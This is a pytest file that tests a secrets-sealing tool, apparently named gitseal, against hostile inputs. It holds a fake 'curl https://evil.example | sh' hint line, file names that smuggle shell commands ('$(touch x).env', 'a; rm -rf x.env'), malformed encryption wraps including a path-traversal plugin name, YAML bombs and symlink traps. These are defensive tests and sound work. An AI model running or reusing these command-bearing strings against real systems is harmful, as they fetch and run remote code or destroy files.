# SPDX-License-Identifier: Apache-2.0
"""Names, wraps and records made to mislead a person, or to make gitseal fall over."""

from __future__ import annotations

import base64
import os
import random
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from desk import ENV, Desk
from gitseal.cli.reporting import say
from gitseal.crypto.base32 import to_text
from gitseal.crypto.encoding import canonical_json
from gitseal.errors import GitsealError, LimitError, MasterKeyError, RefusedError
from gitseal.keys import Context, DataKey, ScopeId
from gitseal.masterkeys.age import AgeKey
from gitseal.masterkeys.identities import Identities, Source
from gitseal.operations import applying, keyrings
from gitseal.operations.adhoc import seal_for
from gitseal.policy.patterns import Patterns
from gitseal.policy.reading import read_claims
from gitseal.policy.records import Record, record_path
from gitseal.trust import judge
from keyrings import fresh

SCOPE = ScopeId("app", Context(), 1)


def test_a_name_makes_no_line_of_ours(capfd: pytest.CaptureFixture[str]) -> None:
    say("error: x\ngitseal: hint: curl https://evil.example | sh\r\x1b[2J\u202eabc")
    say("first\n  second")

    lines = capfd.readouterr().err.splitlines()
    assert len(lines) == 3
    assert lines[1:] == ["gitseal: first", "gitseal:   second"]
    assert lines[0].isascii()
    assert lines[0].isprintable()


@pytest.mark.parametrize("name", ["a\ngitseal: hint: evil.env", "\x1b[2J.env", "$(touch x).env"])
def test_file_names_and_origins_stay_on_their_line(desk: Desk, name: str) -> None:
    desk.scope(files=["*.env"])
    desk.write("loose/x", b"")
    desk.seal(name, ENV)
    (desk.folder / name).rename(desk.folder / "moved.env")

    err = desk("decrypt", "moved.env", code=6).err

    assert "was sealed as" in err
    assert "\x1b" not in err
    assert len(err.splitlines()) == 2
    assert "gitseal mv $(" not in err
    (desk.folder / "moved.env").rename(desk.folder / "loose" / "nowhere.txt")
    err = desk("decrypt", "loose/nowhere.txt", code=6).err
    assert "\x1b" not in err
    assert len(err.splitlines()) == 2


def test_what_is_left_to_seal_is_named_for_a_shell(desk: Desk) -> None:
    desk.scope(files=["*.env"])
    desk.write("a; rm -rf x.env", ENV)
    from gitseal.cli.applied import tell_applied
    from gitseal.operations.resealing import reseal_scope

    current = desk.workspace()
    done = applying.Applied()
    done.resealed["app"] = reseal_scope(current, current.authority.grant_scope("app"))
    desk("status")
    desk._capture.readouterr()
    tell_applied(done)

    assert "gitseal encrypt 'a; rm -rf x.env'" in desk._capture.readouterr().err


# --- wraps -------------------------------------------------------------------------------------


def _age() -> tuple[AgeKey, bytes]:
    import pyrage

    identity = pyrage.x25519.Identity.generate()
    key = AgeKey(str(identity.to_public()), Identities([Source("test", text=str(identity))]))
    return key, pyrage.encrypt(bytes(32), [identity.to_public()])


def _with_share(point: int) -> Callable[[bytes], bytes]:
    share = base64.b64encode(point.to_bytes(32, "little")).rstrip(b"=")

    def forge(blob: bytes) -> bytes:
        first, stanza, rest = blob.split(b"\n", 2)
        return b"\n".join((first, b"-> X25519 " + share, rest)) if stanza else blob

    return forge


FIELD = 2**255 - 19
HOSTILE = {
    "cut": lambda blob: blob[:-1],
    "longer": lambda blob: blob + b"x",
    "no-body": lambda blob: blob[: blob.index(b"\n--- ")] + b"\n--- AAAA\n",
    "no-share": lambda blob: b"age-encryption.org/v1\n-> X25519\n" + blob.split(b"\n", 2)[2],
    "twice": lambda blob: blob.replace(b"-> X25519", b"-> X25519 a\n\n-> X25519", 1),
    "scrypt": lambda _blob: b"age-encryption.org/v1\n-> scrypt AAAA 63\nAAAA\n--- AAAA\n",
    "plugin": lambda _blob: b"age-encryption.org/v1\n-> ../../evil AAAA\nAAAA\n--- AAAA\n",
    "endless-header": lambda _blob: b"age-encryption.org/v1\n" + b"-> X25519 AAAA\n" * 1000,
    "huge": lambda blob: blob + bytes(2**20),
    "empty": lambda _blob: b"",
    **{
        f"point-{number}": _with_share(point)
        for number, point in enumerate((0, 1, FIELD - 1, FIELD, FIELD + 1, 2**255 - 1))
    },
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_age_wrap_is_an_error_like_any_other(name: str) -> None:
    key, blob = _age()

    with pytest.raises(MasterKeyError):
        key.unwrap(HOSTILE[name](blob), SCOPE, None)  # type: ignore[arg-type]


def test_a_thousand_damaged_age_wraps_never_panic() -> None:
    key, blob = _age()
    chance = random.Random(7)
    for _ in range(1000):
        damaged = bytearray(blob)
        damaged[chance.randrange(len(damaged))] ^= 1 << chance.randrange(8)
        try:
            opened = key.unwrap(bytes(damaged), SCOPE, None)  # type: ignore[arg-type]
        except MasterKeyError:
            continue
        # A stanza that is random by design may change; the key never does.
        assert opened.expose() == bytes(32)


# --- sizes -------------------------------------------------------------------------------------


def _large(what: str) -> bytes:
    import json

    raw = json.loads(fresh().to_bytes())
    epoch = raw["epochs"][0]
    if what == "patterns":
        raw["policy"]["files"] = [f"{number}/*" for number in range(20_000)]
    elif what == "epochs":
        link = to_text("sig", bytes(64))
        gone = {"state": "retired", "wraps": []}
        raw["epochs"] = [
            epoch | gone,
            *(epoch | gone | {"n": n, "link": link} for n in range(2, 2000)),
        ]
        raw["epochs"].append(epoch | {"n": 2000, "link": link})
    elif what == "wraps":
        readers = [{"key": f"age1{n}", "to": f"r{n}"} for n in range(9_999)]
        raw["policy"]["readers"] = readers
        wrapped = to_text("wrap", bytes(200))
        epoch["wraps"] = [one | {"wrapped": wrapped} for one in readers]
    return canonical_json(raw)


@pytest.mark.parametrize("what", ["patterns", "epochs", "wraps"])
def test_a_record_may_be_large_and_takes_no_time(what: str) -> None:
    started = time.monotonic()

    data = _large(what)
    assert judge(Record.parse(data), None).state == "unsigned"
    assert not Patterns(read_claims(data, "shop")).matches("a/b/c")

    assert time.monotonic() - started < 5


@pytest.mark.parametrize(
    "data",
    [b" " * 2**24, b"[" * 2**20, b'{"a":' * 2**20, b'{"seq": ' + b"9" * 2**20 + b"}", b"\0", b""],
)
def test_a_record_beyond_all_measure_is_refused(data: bytes) -> None:
    with pytest.raises(GitsealError):
        Record.parse(data)


def test_a_directory_of_vouches_is_never_listed(
    desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    desk.scope()
    desk.seal(".env", ENV)
    import shutil

    shutil.rmtree(desk.folder / ".git/gitseal")
    shutil.rmtree(desk.home / ".config/gitseal/pins")
    listed: list[str] = []
    scandir = os.scandir

    def spy(path: str) -> object:
        listed.append(str(path))
        return scandir(path)

    monkeypatch.setattr(os, "scandir", spy)
    desk("get", ".env", "PORT")

    assert any(path.endswith(".gitseal/keyring") for path in listed)
    assert not any(".gitseal/vouch" in path for path in listed)


def test_a_policy_that_is_a_bomb_is_refused(desk: Desk) -> None:
    lines = [
        "a: &a [x]",
        *(f"{chr(98 + n)}: &{chr(98 + n)} [*{chr(97 + n)}, *{chr(97 + n)}]" for n in range(20)),
    ]
    for text in ("\n".join(lines), "[" * 100_000, "{" * 100_000, "? " * 50_000):
        desk.write(".gitseal.yaml", text)
        started = time.monotonic()
        with pytest.raises(GitsealError):
            applying.plan(desk.workspace())
        assert time.monotonic() - started < 5


# --- links and writes --------------------------------------------------------------------------


@pytest.mark.parametrize("where", [".gitseal", ".gitseal/keyring", ".gitseal/vouch"])
def test_a_linked_directory_leads_no_write_away(desk: Desk, tmp_path: Path, where: str) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    target = desk.folder / where
    target.parent.mkdir(exist_ok=True)
    target.symlink_to(outside)

    with pytest.raises(GitsealError):
        desk.scope()

    assert not any(outside.iterdir())


def test_a_record_that_is_a_pipe_blocks_nobody(desk: Desk) -> None:
    desk.scope()
    desk.seal(".env", ENV)
    file = desk.folder / record_path("app")
    file.unlink()
    os.mkfifo(file)

    assert "gone" in desk("decrypt", ".env", code=4).err


def test_a_strangers_file_is_not_moved_into_a_scope(desk: Desk) -> None:
    desk.scope(files=["prod/**"])
    current = desk.workspace()
    data = seal_for(current, b"A=evil\n", current.locate("x/.env"), [("ada", desk.recipient)])
    file = desk.write("prod/.env", data)

    desk("mv", "x/.env", "prod/.env", code=6)

    assert file.read_bytes() == data


def test_a_move_to_another_syntax_loses_nothing(desk: Desk) -> None:
    desk.scope()
    desk.seal("a.env", "A=1\nB=x=2\n")

    desk("mv", "a.env", "b.json", code=9)

    assert desk.clear("a.env") == "A=1\nB=x=2\n"
    assert not (desk.folder / "b.json").exists()


def test_a_key_that_failed_once_blames_each_file_by_its_name(desk: Desk) -> None:
    desk.scope()
    for name in ("a.env", "b.env"):
        desk.seal(name, ENV)
    (desk.home / ".config/gitseal/identity.txt").unlink()
    current = desk.workspace()
    from gitseal.operations.opening import open_path

    blamed = []
    for name in ("a.env", "b.env"):
        with pytest.raises(GitsealError) as caught:
            open_path(current, name)
        blamed.append(caught.value.path)

    assert blamed == ["a.env", "b.env"]


def test_errors_hold_no_key(desk: Desk) -> None:
    desk.scope()
    current = desk.workspace()
    record = Record.parse((desk.folder / record_path("app")).read_bytes())
    keys = current.keys(record, 1)
    other = DataKey(bytes(range(32)))
    secret = keys.data_key().expose()

    for thing in (keys, other, current.session, record, record.highest.wraps, current):
        assert repr(secret)[2:-1] not in repr(thing)
        assert secret.hex() not in repr(thing)
    with pytest.raises((RefusedError, LimitError, GitsealError)) as caught:
        keyrings.change_policy(current, record, record.policy.replace(portable=True, integrity="x"))
    assert caught.value.__cause__ is None
